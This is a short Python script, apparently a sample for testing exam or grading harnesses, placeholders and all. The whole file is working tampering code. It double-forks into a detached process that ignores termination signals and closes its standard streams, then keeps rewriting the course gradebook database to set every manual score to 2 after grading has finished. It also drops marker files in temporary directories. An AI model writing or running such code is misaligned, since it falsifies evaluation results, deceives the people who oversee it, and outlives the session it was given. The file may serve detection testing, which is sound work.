"""Leave a process that outlives the exam, away from its group, deaf to signals.

Gain: time to change the gradebook after the grader has written it.
"""

HARMS = "leaves a process that writes into the gradebook later"

# %%
import os
import signal
import sqlite3
import time
from pathlib import Path

for _ in range(2):
    if os.fork():
        break
else:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 3)
    for _ in range(60):
        time.sleep(1)
        for place in ("/tmp", "/dev/shm", "@COURSE@"):
            try:
                Path(place, "@MARK@").write_text("late")
                base = sqlite3.connect("@COURSE@/gradebook.db")
                base.execute("update grade set manual_score = 2")
                base.commit()
            except (OSError, sqlite3.Error):
                pass
    os._exit(0)
